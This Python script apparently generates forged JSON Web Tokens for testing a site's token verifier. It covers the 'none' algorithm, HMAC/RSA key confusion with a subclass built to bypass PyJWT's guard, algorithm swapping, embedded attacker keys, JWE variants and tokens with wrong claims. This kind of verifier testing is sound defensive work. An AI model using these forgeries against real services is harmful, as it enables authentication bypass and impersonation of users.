"""Tokens that an attacker would make with PyJWT and joserfc.

Reads {header, claims, jwk (the site's public key), pem (its private key, which the test imported), now} and prints a list of
{case, name, token}. Guards that the libraries have against their own misuse are walked around as an attacker would.
"""

import base64
import hashlib
import hmac
import json
import sys
import warnings
from typing import Any

import jwt as pyjwt
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc import jwe, jws
from joserfc import jwt as joserfc
from joserfc.jwk import OctKey, RSAKey
from jwt.algorithms import HMACAlgorithm, RSAAlgorithm

warnings.simplefilter("ignore")  # The libraries warn of what is done here on purpose.


class Gullible(HMACAlgorithm):
    """PyJWT's HMAC, which takes any secret."""

    def prepare_key(self, key: Any) -> bytes:
        """As it is."""
        return bytes(key)


def main() -> None:
    """Reads, forges, prints."""
    asked = json.load(sys.stdin)
    header, claims, jwk = asked["header"], asked["claims"], asked["jwk"]
    payload = json.dumps(claims).encode()
    forged: list[dict[str, str]] = []

    def add(case: str, name: str, token: str | bytes) -> None:
        forged.append({"case": case, "name": name, "token": token if isinstance(token, str) else token.decode()})

    public = RSAAlgorithm.from_jwk(jwk)
    own = rsa.generate_private_key(65537, 2048)
    real = RSAKey.import_key(asked["pem"])
    plain = {name: value for name, value in header.items() if name != "alg"}

    # JW-01
    add("JW-01", "PyJWT none", pyjwt.encode(claims, None, algorithm="none", headers=plain))
    add("JW-01", "joserfc none", joserfc.encode(plain | {"alg": "none"}, claims, None, algorithms=["none"]))

    # JW-02: what an attacker knows of the key, in each form that a program might hold it in.
    gullible = pyjwt.PyJWS(algorithms=[])
    gullible.register_algorithm("HS256", Gullible(HMACAlgorithm.SHA256))
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    forms = {
        "PEM": pem,
        "PEM without its last newline": pem.rstrip(),
        "PEM with CRLF": pem.replace(b"\n", b"\r\n"),
        "PKCS#1 PEM": public.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "PKCS#1 DER": public.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        "JWK text": json.dumps(jwk, separators=(",", ":")).encode(),
        "sorted JWK text": json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode(),
        "modulus": base64.urlsafe_b64decode(jwk["n"] + "=="),
        "modulus as text": jwk["n"].encode(),
        "kid": header["kid"].encode(),
        "nothing": b"",
    }
    for name, secret in forms.items():
        add("JW-02", f"PyJWT HS256 with the {name}", gullible.encode(payload, secret, "HS256", plain))
    for algorithm in ("HS256", "HS384", "HS512"):
        add("JW-02", f"joserfc {algorithm} with the JWK text", joserfc.encode(
            plain | {"alg": algorithm}, claims, OctKey.import_key(forms["JWK text"]), algorithms=[algorithm]))

    # JW-03: the real key, by another algorithm than its own.
    for algorithm in ("RS384", "RS512", "PS256", "PS384"):
        add("JW-03", f"PyJWT {algorithm}", pyjwt.encode(claims, asked["pem"], algorithm=algorithm, headers=plain))
        add("JW-03", f"joserfc {algorithm}", joserfc.encode(plain | {"alg": algorithm}, claims, real, algorithms=[algorithm]))
    # A signature by RS256 under another name.
    parts = pyjwt.encode(claims, asked["pem"], algorithm="RS256", headers=plain).split(".")
    for algorithm in ("RS384", "PS256", "rs256", "HS256", "none", ""):
        swapped = base64.urlsafe_b64encode(json.dumps(plain | {"alg": algorithm}).encode()).rstrip(b"=").decode()
        add("JW-03", f"alg says {algorithm!r}", ".".join([swapped, *parts[1:]]))

    # JW-05, JW-07: somebody else's key.
    add("JW-05", "PyJWT another key under the same kid", pyjwt.encode(claims, own, algorithm="RS256", headers=plain))
    own_jwk = json.loads(RSAAlgorithm.to_jwk(own.public_key()))
    add("JW-07", "PyJWT embedded jwk", pyjwt.encode(claims, own, algorithm="RS256", headers=plain | {"jwk": own_jwk}))
    add("JW-07", "PyJWT embedded jwk without kid", pyjwt.encode(
        claims, own, algorithm="RS256", headers={"typ": header["typ"], "jwk": own_jwk}))
    add("JW-07", "PyJWT embedded jwk of the same kid", pyjwt.encode(
        claims, own, algorithm="RS256", headers=plain | {"jwk": own_jwk | {"kid": header["kid"], "alg": "RS256"}}))

    # JW-09
    to_site = RSAKey.import_key({name: jwk[name] for name in ("kty", "n", "e")})
    for more in ({}, {"zip": "DEF"}):
        head = {"alg": "RSA-OAEP", "enc": "A256GCM", "typ": header["typ"], "kid": header["kid"], "cty": "JWT"} | more
        add("JW-09", f"joserfc JWE {more}", jwe.encrypt_compact(head, payload, to_site))
    flat = jws.serialize_json({"protected": header}, payload, real)
    add("JW-09", "joserfc flattened JSON", json.dumps(flat))
    add("JW-09", "joserfc general JSON", json.dumps(jws.serialize_json([{"protected": header}], payload, real)))
    add("JW-09", "joserfc unprotected kid", json.dumps(jws.serialize_json(
        {"protected": {"alg": header["alg"], "typ": header["typ"]}, "header": {"kid": header["kid"]}}, payload, real)))

    # JW-10 to JW-14: the right key, wrong claims, as an insider or another token of the same key would have them.
    now = asked["now"]
    for case, name, change in (
        ("JW-10", "expired long ago", {"exp": now - 3600}),
        ("JW-10", "expired by more than the leeway", {"exp": now - 61}),
        ("JW-11", "nbf in an hour", {"nbf": now + 3600}),
        ("JW-13", "another issuer", {"iss": "https://evil.example"}),
        ("JW-14", "another audience", {"aud": "https://evil.example"}),
    ):
        add(case, f"PyJWT {name}", pyjwt.encode(claims | change, asked["pem"], algorithm="RS256", headers=plain))
        add(case, f"joserfc {name}", joserfc.encode(header, claims | change, real))
    add("JW-13", "an id_token's type", pyjwt.encode(claims, asked["pem"], algorithm="RS256", headers=plain | {"typ": "JWT"}))
    # An HMAC over a token that is right otherwise.
    signed = ".".join(parts[:2]).encode()
    add("JW-02", "the right header and an HMAC for a signature", f"{signed.decode()}.{base64.urlsafe_b64encode(hmac.digest(pem, signed, hashlib.sha256)).rstrip(b'=').decode()}")
    print(json.dumps(forged))


if __name__ == "__main__":
    main()
